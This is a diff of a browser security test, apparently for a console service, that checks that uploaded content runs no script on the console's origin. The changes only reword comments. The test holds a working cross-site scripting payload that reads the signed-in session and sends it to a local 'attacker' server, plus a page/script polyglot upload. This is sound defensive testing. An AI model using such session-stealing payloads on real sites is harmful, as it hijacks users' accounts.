@@ -1,5 +1,5 @@
-// Tests in a browser that is signed in that stored content runs no script on the console's origin, whatever type its uploader announced:
-// opened as a page, and embedded by a page of an attacker. Prints what the browser did.
+// Tests in a signed-in browser that stored content runs no script on the console's origin, whatever type its uploader announced: opened
+// as a page, and embedded in an attacker's page. Prints what the browser did.
 // @module-tag long
 import { createHash } from 'node:crypto';
 import { createServer, type Server } from 'node:http';
@@ -11,7 +11,7 @@ import { consoleScene } from './console-scene.ts';
 
 const scene = consoleScene();
 
-/** Receives stolen sessions. It also serves the attacker's page, which browsers take for the same site. */
+/** Receives stolen sessions. It also serves the attacker's page, which browsers treat as the same site. */
 let attacker: Server;
 const stolen: string[] = [];
 let attackersPage = '';
@@ -30,7 +30,7 @@ function attackersUrl(): string {
   return `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
 }
 
-/** Reads the session, and sends it away. */
+/** Returns a script that reads the session and sends it away. */
 function script(): string {
   return `document.title = 'ran'; fetch('${attackersUrl()}ran'); fetch('${scene.local.url}/v1/session', { credentials: 'include' }).then((r) => r.text()).then((t) => fetch('${attackersUrl()}stolen?' + encodeURIComponent(t)))`;
 }
@@ -44,7 +44,7 @@ async function put(url: string, type: string, content: string): Promise<void> {
   expect(response.status).toBe(200);
 }
 
-/** Sends content as the input of a run, and returns its link, which the organization's export has. */
+/** Uploads content as a run's input, and returns its link from the organization's export. */
 async function linkOfInput(type: string, content: string): Promise<string> {
   const path = { namespace_id: scene.local.namespace_id, plugin_id: 'echo_1_2_0' };
   const run = await client().post('/v1/namespaces/{namespace_id}/plugins/{plugin_id}/runs', {
@@ -97,7 +97,7 @@ const contents: [what: string, link: () => Promise<string>][] = [
   ['a model that is a page and a script', () => linkOfModel('text/javascript', polyglot())],
 ];
 
-/** A page that notes what asked for the session. */
+/** Opens a page that records requests for the session. */
 async function watchedPage(): Promise<{ page: Page; asked: string[] }> {
   const page = await scene.signedInPage();
   const asked: string[] = [];
